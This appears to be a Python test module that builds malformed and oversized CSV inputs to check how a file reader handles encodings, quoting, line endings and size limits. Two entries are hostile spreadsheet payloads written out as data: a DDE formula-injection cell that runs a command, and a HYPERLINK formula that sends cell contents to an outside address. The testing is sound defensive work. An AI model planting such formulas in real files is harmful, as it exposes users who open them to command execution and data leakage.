"""What can be wrong with text files."""

from __future__ import annotations

import random
from collections.abc import Iterator
from functools import partial

from tests.reading.nasty.nasty import Expected, Nasty

READ, REFUSED, EITHER = Expected.READ, Expected.REFUSED, Expected.EITHER
LARGE = 9_900_000


def nasty() -> Iterator[Nasty]:
    """Lines and cells beyond measure, character sets, quotes, and what only calls itself text."""
    for name, data, expected in (
        ("one-mark", b"\xef\xbb\xbf", READ),
        ("only-delimiters", b",;\t" * 90, EITHER),
        ("only-quotes", b'"' * 301, EITHER),
        ("only-lines", b"\n" * 5_000, READ),
        ("nul-bytes", b"a,b\n\0,4\n", EITHER),
        ("control-characters", bytes(range(1, 32)) + b",4\n", READ),
        ("utf-16-odd-length", b"\xff\xfea\0,\x004", EITHER),
        ("utf-16-half-a-pair", b"\xff\xfea\0\x00\xd8,\x004\x00", EITHER),
        ("utf-16-without-mark", "a,b\n4,5\n".encode("utf-16-le"), REFUSED),
        ("utf-32", "a,b\n4,5\n".encode("utf-32"), EITHER),
        ("utf-8-cut", "a,Zo\u00eb".encode()[:-1], EITHER),
        ("utf-8-surrogates", b"a,\xed\xa0\x80\n", EITHER),
        ("no-character-set", b"a,\x81\x8d\xff\n", EITHER),
        ("old-mac-lines", b"a,b\rc,4\r", READ),
        ("mixed-lines", b"a,b\r\nc,4\nd,5\re,6", READ),
        ("rows-2000", b"a,4\n" * 2_000, READ),
        ("rows-2001", b"a,4\n" * 2_001, REFUSED),
        ("columns-200", b"4," * 199 + b"4\n", READ),
        ("columns-201", b"4," * 200 + b"4\n", REFUSED),
        ("delimiter-named", b"sep=;\r\na;4\r\n", READ),
        ("delimiter-named-alone", b"sep=;", READ),
        ("delimiter-nonsense", b"sep=|\r\na|4\r\n", READ),
        ("formulas", b"=cmd|'/c calc'!A1,+1,-1,@SUM(1)\n", READ),
        ("text-of-131073", b'"' + b"x" * 131_073 + b'"\n', EITHER),
        ("quote-never-closed", b'a,"b\n' + b"c,4\n" * 40_000, REFUSED),
        ("quotes-inside", b'a,"b"c"d""e,4\n', EITHER),
        ("turned-around", "\u202egnitar,4\n".encode(), READ),
        ("a-link-to-itself", b'=HYPERLINK("http://192.0.2.1/?"&A1),4\n', READ),
    ):
        yield Nasty(f"{name}.csv", partial(bytes, data), expected)
    for name, make in {
        "line-of-9-mb": lambda: b"x" * LARGE,
        "quoted-line-of-9-mb": lambda: b'"' + b"x" * LARGE,
        "commas-of-9-mb": lambda: b"," * LARGE,
        "semicolons-and-commas-of-9-mb": lambda: b",;" * (LARGE // 2),
        "quotes-of-9-mb": lambda: b'"' * LARGE,
        "quote-comma-of-9-mb": lambda: b'",' * (LARGE // 2),
        "lines-of-9-mb": lambda: b"\n" * LARGE,
        "cells-of-9-mb": lambda: (b"1," * 190 + b"\n") * (LARGE // 400),
        "spaces-of-9-mb": lambda: b" " * LARGE,
        "tabs-of-9-mb": lambda: b"\t" * LARGE,
        "utf-16-of-9-mb": lambda: ("x," * (LARGE // 4)).encode("utf-16"),
        "noise-of-9-mb": lambda: random.Random(3).randbytes(LARGE).replace(b"\0", b" "),
        "long-cells-of-9-mb": lambda: (b"x" * 130_000 + b"\n") * 75,
        "larger-than-10-mb": lambda: b"a,4\n" * 2_600_000,
    }.items():
        yield Nasty(f"{name}.csv", make, EITHER, slow=True)
